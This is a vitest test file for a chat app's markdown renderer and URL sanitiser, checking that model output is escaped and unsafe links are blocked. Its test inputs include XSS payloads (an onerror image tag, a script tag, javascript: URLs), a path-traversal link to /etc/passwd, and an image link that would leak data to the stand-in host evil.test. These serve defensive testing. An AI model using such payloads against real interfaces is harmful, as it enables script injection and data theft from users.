import { renderToStaticMarkup } from 'react-dom/server';
import { describe, expect, it } from 'vitest';
import { lexMarkdown, Markdown } from './Markdown';
import { sameBlock } from './MarkdownBlock';
import { safeHref } from './safeUrl';

const html = (text: string) => renderToStaticMarkup(<Markdown text={text} final />);

describe('chat markdown', () => {
  it('renders the usual answer shapes', () => {
    const out = html('# Title\n\nSome **bold**, *em*, `a < b && c`.\n\n- one\n- [x] done\n\n1. first\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n```ts\nconst x = 1 < 2;\n```\n\n> quoted');
    expect(out).toContain('<h1>Title</h1>');
    expect(out).toContain('<strong>bold</strong>');
    expect(out).toContain('<code>a &lt; b &amp;&amp; c</code>');
    expect(out).toContain('<li><span>one</span></li>');
    expect(out).toMatch(/<input type="checkbox"[^>]*checked/);
    expect(out).toContain('<ol');
    expect(out).toContain('<td>1</td>');
    expect(out).toContain('<code data-lang="ts">const x = 1 &lt; 2;</code>');
    expect(out).toContain('<blockquote><p>quoted</p></blockquote>');
  });

  it('shows raw HTML and script from the model as text, never as markup', () => {
    const out = html('Hi <img src=x onerror=alert(1)> <script>steal()</script>\n\n<div onclick="x()">block</div>');
    expect(out).not.toMatch(/<img|<script|<div onclick/);
    expect(out).toContain('&lt;img src=x onerror=alert(1)&gt;');
    expect(out).toContain('&lt;script&gt;steal()&lt;/script&gt;');
    expect(out).toContain('&lt;div onclick=&quot;x()&quot;&gt;block&lt;/div&gt;');
  });

  it('keeps only web, mail and workspace-file links clickable and never loads images', () => {
    const out = html('[ok](https://example.com/a) [bad](javascript:alert(1)) [rel](/api/secret) [up](../../etc/passwd) [file](src/store.js) ![pixel](https://evil.test/?d=secret)');
    // Workspace files by their path from the root (the surface opens them in Keel); nothing above the root.
    expect(out).toContain('<a href="src/store.js" title="Open src/store.js" data-workspace-file="">file</a>');
    expect(out).toContain('<a href="api/secret" title="Open api/secret" data-workspace-file="">rel</a>');
    expect(out).not.toContain('etc/passwd');
    expect(out).toContain('<a href="https://example.com/a"');
    expect(out).toContain('rel="noopener noreferrer nofollow"');
    expect(out).not.toContain('javascript:');
    expect(out).not.toContain('href="/api/secret"');
    expect(out).not.toContain('<img');
    expect(out).toContain('image: pixel');
  });

  it('decodes entities once: the user sees the characters the model wrote', () => {
    expect(html('Tom &amp; Jerry said 5 > 3 & "hi"')).toContain('Tom &amp; Jerry said 5 &gt; 3 &amp; &quot;hi&quot;');
  });

  it('renders a half-streamed answer without throwing (an open code fence is code so far)', () => {
    const out = renderToStaticMarkup(<Markdown text={'Start\n\n```py\nprint(1)\n'} final={false} />);
    expect(out).toContain('<code data-lang="py">print(1)</code>');
  });
});

describe('safeHref', () => {
  it('accepts http(s) and mailto only', () => {
    expect(safeHref('https://a.b/c')).toBe('https://a.b/c');
    expect(safeHref('mailto:x@y.z')).toBe('mailto:x@y.z');
    expect(safeHref(' JavaScript:alert(1)')).toBeUndefined();
    expect(safeHref('data:text/html,x')).toBeUndefined();
    expect(safeHref('file:///etc/passwd')).toBeUndefined();
    expect(safeHref('relative/path')).toBeUndefined();
  });
});

describe('streaming', () => {
  it('a new delta changes only the last block: earlier blocks compare equal and skip rendering', () => {
    const before = lexMarkdown('# Plan\n\n1. read\n2. edit\n\nNow I am wri');
    const after = lexMarkdown('# Plan\n\n1. read\n2. edit\n\nNow I am writing the');
    expect(after).toHaveLength(before.length);
    const same = before.map((t, i) => sameBlock({ token: t, final: false }, { token: after[i]!, final: false }));
    expect(same).toEqual([...same.slice(0, -1).map(() => true), false]);
    // The answer completing renders every block once more.
    expect(sameBlock({ token: before[0]!, final: false }, { token: after[0]!, final: true })).toBe(false);
  });
});
